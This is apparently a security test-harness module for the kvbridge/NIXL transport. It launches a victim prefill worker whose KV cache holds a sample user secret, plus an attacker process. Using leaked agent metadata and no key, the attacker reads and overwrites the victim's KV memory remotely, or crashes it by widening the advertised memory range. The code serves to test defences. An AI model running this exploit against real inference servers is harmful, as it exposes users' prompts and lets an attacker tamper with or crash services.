"""An outsider against a prefill worker's transport, across test hosts: the victim and the attacker processes.

    python -m support.transport_attack victim DIR IP DEVICE [--ucx-tcp]
    python -m support.transport_attack attacker DIR DEVICE {read-write|crash}

The victim is a keyed PrefillWorker (real NIXL agent, real side channel, kvbridge's KV channel) whose KV starts with
a user's secret. It writes its NIXL agent metadata and its KV address to DIR/leak.json: what a leak would give an
outsider (the address came from the harness in the original report too), more than a port scan does. Once DIR/snap
exists it writes the head of its KV to DIR/snapshot.bin; it stops when DIR/stop exists. `--ucx-tcp`: the operator's
opt-in (`ucx_tcp_exposes_process_memory`, UCX on the host's device), the control.

The attacker holds no key. It loads the leaked metadata into a NIXL agent of its own (UCX tcp on its host's device)
and tries, each bounded in time:
- read-write: READ the first 140 bytes of the victim's KV, WRITE 23 bytes there, READ them back;
- crash: the zero-knowledge crash: the metadata's memory section widened to [0x1000, 2^47), one 64-byte READ at
  0x10000 (no registered memory there).
It writes what each got to DIR/attack-<mode>.json.
"""

from __future__ import annotations

import json
import struct
import sys
import time
from pathlib import Path

SECRET = b"USER-A PROMPT: my card is 4111-1111-1111-1111, expiry 12/29, and my home address is 1 Main St"
PAYLOAD = b"<<ATTACKER-WROTE-THIS>>"
KEY = b"transport-attack-deployment-key-0123456789"


def victim(work: Path, ip: str, device: str, ucx_tcp: bool) -> None:
    import torch

    from kvbridge.core.config import BridgeConfig
    from kvbridge.core.identity import WorkerIdentity
    from kvbridge.core.memory import synthesize_memory
    from kvbridge.core.topology import KVGeometry, ParallelLayout, WorkerRank
    from kvbridge.runtime.prefill_worker import PrefillWorker

    geometry = KVGeometry(num_layers=2, num_kv_heads=2, head_size=8, dtype="float32", block_size=4)
    kv = torch.zeros(1 << 16, dtype=torch.uint8)
    kv[: len(SECRET)] = torch.frombuffer(bytearray(SECRET), dtype=torch.uint8)
    memory = synthesize_memory("LBHNC", geometry, [0, 1], 2, 16, kv.data_ptr())
    extra = {"ucx_tcp_exposes_process_memory": True, "ucx_net_devices": device} if ucx_tcp else {}
    config = BridgeConfig(side_channel_host=ip, side_channel_port=5600, **extra)
    worker = PrefillWorker(
        WorkerIdentity("victim", ParallelLayout(), 0, WorkerRank(0, 0), geometry), memory, config, key=KEY
    ).start()
    try:
        leak = {
            "metadata": worker.transport.agent_metadata().hex(),
            "addr": memory.regions[0].addr,
            "nbytes": memory.regions[0].nbytes,
            "ucx": worker.transport.ucx_env,
        }
        (work / "leak.tmp").write_text(json.dumps(leak))
        (work / "leak.tmp").rename(work / "leak.json")
        while not (work / "stop").exists():
            if (work / "snap").exists() and not (work / "snapshot.bin").exists():
                (work / "snapshot.tmp").write_bytes(kv[:200].numpy().tobytes())
                (work / "snapshot.tmp").rename(work / "snapshot.bin")
            worker.finished()  # the engine's step: NIXL progress, as a serving worker makes it
            time.sleep(0.01)
    finally:
        worker.close()


def _widened(metadata: bytes, addr: int, nbytes: int) -> bytes:
    """The metadata with the memory section of the KV (addr, nbytes) replaced by [0x1000, 2^47)."""
    old = struct.pack("<QQ", addr, nbytes)
    at = metadata.find(old)
    if at < 0:
        raise ValueError("the KV's section is not in the metadata")
    return metadata[:at] + struct.pack("<QQ", 0x1000, (1 << 47) - 0x1000) + metadata[at + len(old) :]


def attacker(work: Path, device: str, mode: str) -> None:
    import numpy as np
    from nixl._api import nixl_agent, nixl_agent_config

    leak = json.loads((work / "leak.json").read_text())
    metadata, addr = bytes.fromhex(leak["metadata"]), leak["addr"]
    if mode == "crash":
        metadata = _widened(metadata, addr, leak["nbytes"])
    agent = nixl_agent(f"outsider-{mode}", nixl_agent_config(backends=["UCX"]))
    buf = np.zeros(4096, dtype=np.uint8)
    agent.register_memory([(buf.ctypes.data, buf.nbytes, 0, "")], "DRAM")
    report: dict = {"mode": mode}
    try:
        peer = agent.add_remote_agent(metadata)
        if isinstance(peer, bytes):
            peer = peer.decode()
    except Exception as exc:
        report["add_remote_agent"] = repr(exc)
        (work / f"attack-{mode}.json").write_text(json.dumps(report))
        return

    def transfer(op: str, remote: int, n: int, timeout_s: float = 8.0) -> str:
        local = agent.get_xfer_descs([(buf.ctypes.data, n, 0)], "DRAM")
        far = agent.get_xfer_descs([(remote, n, 0)], "DRAM")
        try:
            handle = agent.initialize_xfer(op, local, far, peer, b"")
            state = agent.transfer(handle)
            deadline = time.monotonic() + timeout_s
            while state not in ("DONE", "ERR") and time.monotonic() < deadline:
                time.sleep(0.005)
                state = agent.check_xfer_state(handle)
            return state
        except Exception as exc:
            return f"error: {exc!r}"[:300]

    if mode == "crash":
        report["read_unmapped"] = transfer("READ", 0x10000, 64)
    else:
        report["read"] = transfer("READ", addr, 140)
        report["read_bytes"] = bytes(buf[:140]).decode("latin-1")
        buf[: len(PAYLOAD)] = np.frombuffer(PAYLOAD, dtype=np.uint8)
        report["write"] = transfer("WRITE", addr, len(PAYLOAD))
        buf[:] = 0
        report["read_back"] = transfer("READ", addr, len(PAYLOAD))
        report["read_back_bytes"] = bytes(buf[: len(PAYLOAD)]).decode("latin-1")
    (work / f"attack-{mode}.json").write_text(json.dumps(report))


if __name__ == "__main__":
    role, work = sys.argv[1], Path(sys.argv[2])
    if role == "victim":
        victim(work, sys.argv[3], sys.argv[4], "--ucx-tcp" in sys.argv)
    else:
        attacker(work, sys.argv[3], sys.argv[4])
